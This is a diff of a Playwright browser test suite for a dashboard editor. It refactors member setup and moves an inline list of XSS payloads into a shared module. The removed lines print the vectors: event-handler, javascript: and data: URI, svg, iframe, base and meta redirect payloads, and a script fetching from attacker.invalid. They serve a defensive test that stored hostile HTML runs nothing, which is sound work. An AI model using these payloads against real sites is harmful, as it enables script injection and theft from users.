@@ -1,8 +1,9 @@
 import type { Browser, Page } from 'playwright-core';
 import sharp from 'sharp';
 import { useBrowser } from './support/browser';
-import { eventually, PASSWORD, signedIn } from './support/dashboard';
-import { edge, hc, ownerWithKey, stack, unique } from './support/stack';
+import { eventually, member, signedIn } from './support/dashboard';
+import { edge, ownerWithKey, stack } from './support/stack';
+import { ATTACKER, XSS_VECTORS } from './support/xss-vectors';
 
 /**
  * The dashboard is used at the platform origin (HC_PUBLIC_URL): a session write carries the
@@ -13,8 +14,6 @@ import { edge, hc, ownerWithKey, stack, unique } from './support/stack';
  * nothing; stored hostile HTML opened in the editor runs nothing on the platform origin. No fixed
  * sleeps: every wait is on a condition (an element, a request, the stored article).
  */
-
-const ATTACKER = 'attacker.invalid';
 
 async function article(key: string, id: number) {
   const answer = await edge('GET', `/v1/articles/${id}`, { key });
@@ -90,18 +89,7 @@ describe('the dashboard editor in a real browser (issue 37)', () => {
 
   it('two people edit the same article: the second save gets the conflict dialog with both versions, nothing is overwritten silently', async () => {
     const { email, site, key } = await ownerWithKey('Conflict site');
-    const other = `${unique('editor')}@example.test`;
-    const { user } = await hc('user', 'create', '--email', other, '--password', PASSWORD);
-    await hc(
-      'member',
-      'add',
-      '--site',
-      String(site.id),
-      '--user',
-      String(user.id),
-      '--role',
-      'editor',
-    );
+    const { email: other } = await member(site.id, 'editor');
     const created = await edge('POST', '/v1/articles', {
       key,
       body: { title: { en: 'Shared' }, content: { en: '<p>Base text.</p>' } },
@@ -149,18 +137,7 @@ describe('the dashboard editor in a real browser (issue 37)', () => {
 
   it('a Viewer opens an article read-only: no toolbar, no Publish, no Restore, nothing editable', async () => {
     const { site, key } = await ownerWithKey('Viewer site');
-    const email = `${unique('viewer')}@example.test`;
-    const { user } = await hc('user', 'create', '--email', email, '--password', PASSWORD);
-    await hc(
-      'member',
-      'add',
-      '--site',
-      String(site.id),
-      '--user',
-      String(user.id),
-      '--role',
-      'viewer',
-    );
+    const { email } = await member(site.id, 'viewer');
     const created = await edge('POST', '/v1/articles', {
       key,
       body: { title: { en: 'Read only' }, content: { en: '<p>Look, do not touch.</p>' } },
@@ -235,29 +212,7 @@ describe('the dashboard editor in a real browser (issue 37)', () => {
 
   it('a stored article carrying every XSS vector of the reader-site tests runs nothing when opened in the editor', async () => {
     const { email, site, key } = await ownerWithKey('Hostile site');
-    const vectors = [
-      `<img src=x onerror="alert('img');window.__pwned=1">`,
-      `<p onmouseover="alert('p')" style="display:block;width:100%;height:200px">hover</p>`,
-      `<body onload="alert('body')">`,
-      `<a id="js1" href="javascript:alert('link')">a</a>`,
-      `<a id="js3" href="java&#x09;script&colon;alert('entity')">c</a>`,
-      `<a id="data" href="data:text/html,<script>alert('data')</script>">f</a>`,
-      `<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>`,
-      `<svg><a xlink:href="javascript:alert('svg-link')"><text x="20" y="20">svg</text></a></svg>`,
-      `<math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>`,
-      `<base href="https://${ATTACKER}/">`,
-      `<meta http-equiv="refresh" content="0;url=https://${ATTACKER}/refresh">`,
-      `<object data="https://${ATTACKER}/object"></object><embed src="https://${ATTACKER}/embed">`,
-      `<iframe src="https://${ATTACKER}/frame"></iframe>`,
-      `<iframe srcdoc="<script>parent.alert('srcdoc')</script>"></iframe>`,
-      `<div style="width:expression(alert('css'));background:url(https://${ATTACKER}/css)">css</div>`,
-      `<style>@import url("https://${ATTACKER}/import.css");</style>`,
-      `<form action="https://${ATTACKER}/form"><input name="q"><button id="go">Go</button></form>`,
-      `<script>alert('script');fetch('https://${ATTACKER}/script')</script>`,
-      `<details open ontoggle="alert('toggle')"><summary>s</summary></details>`,
-      `<video><source onerror="alert('video')"></video>`,
-      `<p>Readable paragraph</p>`,
-    ].join('\n');
+    const vectors = [...XSS_VECTORS, `<p>Readable paragraph</p>`].join('\n');
     const created = await edge('POST', '/v1/articles', {
       key,
       body: { title: { en: 'Vectors' }, content: { en: vectors } },
